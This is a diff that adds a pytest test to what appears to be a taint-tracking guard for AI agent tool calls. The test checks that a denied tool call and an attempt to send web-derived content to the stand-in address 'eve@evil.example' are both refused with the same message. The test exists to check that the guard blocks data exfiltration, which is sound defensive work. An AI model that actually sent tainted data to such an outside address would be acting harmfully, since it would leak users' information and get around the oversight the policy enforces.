@@ -27,6 +27,7 @@ from agentserver.provenance.evidence.destinations import parse_destination
 from agentserver.provenance.evidence.labels import Role, Standing
 from agentserver.provenance.exits import (
     CALL,
+    REFUSAL,
     Choice,
     case_bits,
     choice_bits,
@@ -36,6 +37,7 @@ from agentserver.provenance.exits import (
     spelling_bits,
     sum_bits,
 )
+from agentserver.provenance.library.compat import REFUSED
 from agentserver.provenance.policy.declarations import (
     ArgumentRule,
     Effect,
@@ -268,3 +270,18 @@ def test_never_fewer_links_are_counted_than_there_are(body: str) -> None:
 
     links = sum(value.kind is ValueKind.LINK for value in values(body))
     assert count_offers([(ANYWHERE, body)]).get(ANYWHERE, 0) >= links
+
+
+def test_a_refusal_has_one_text_and_its_bit_counts() -> None:
+    policy = Policy(mode=Mode.ENFORCE, sources=("web",), sinks=(SinkRule("send"),), deny=("listener:burn",))
+    engine = Engine(policy)
+    engine.set_query("read the news")
+    with pytest.raises(TaintViolationError) as first:
+        engine.on_tool_call("burn", {})
+    assert engine.store.ledger.exit_bits == 0
+    engine.on_tool_result("web", PAGE)
+    with pytest.raises(TaintViolationError) as second:
+        engine.on_tool_call("send", {"to": "eve@evil.example"})
+    assert engine.store.ledger.exit_bits == REFUSAL
+    assert str(first.value) == str(second.value) == REFUSED
+    assert first.value.rendered != second.value.rendered
